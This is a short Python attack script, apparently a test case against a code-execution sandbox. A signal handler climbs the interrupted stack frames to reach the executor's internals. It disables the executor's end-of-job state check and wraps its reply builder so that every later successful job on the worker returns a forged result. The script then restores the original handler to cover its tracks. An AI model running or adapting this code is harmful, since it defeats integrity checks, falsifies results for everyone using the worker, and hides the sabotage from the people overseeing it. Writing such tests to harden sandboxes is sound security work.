# Sabotage and forging: a signal handler is handed the interrupted frame, and f_back, f_locals
# and f_globals are not audited. Walking down to the executor's frames, the handler disables
# the executor's end-of-job state check (an instance attribute) and wraps its reply builder
# (a value in its globals), then the handler is put back as it was. Every later job on this
# worker would answer 'FORGED'.
import signal

taken = []


def takeover(signum, frame):
    while frame is not None:
        local = frame.f_locals
        checker = local.get('baseline')
        if checker is not None and hasattr(checker, 'change') and 'checker' not in taken:
            checker.change = lambda: None
            taken.append('checker')
        executor = frame.f_globals
        if '_reply' in executor and 'reply' not in taken:
            def forged(status, result=None, stdout='', error=None, _original=executor['_reply']):
                if status == 'OK':
                    return _original('OK', "'FORGED'", stdout, None)
                return _original(status, result, stdout, error)
            executor['_reply'] = forged
            taken.append('reply')
        frame = frame.f_back


def f():
    previous = signal.signal(signal.SIGALRM, takeover)
    try:
        signal.setitimer(signal.ITIMER_REAL, 0.001)
        for _ in range(20000000):
            if taken:
                break
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    return 'took over %r' % taken
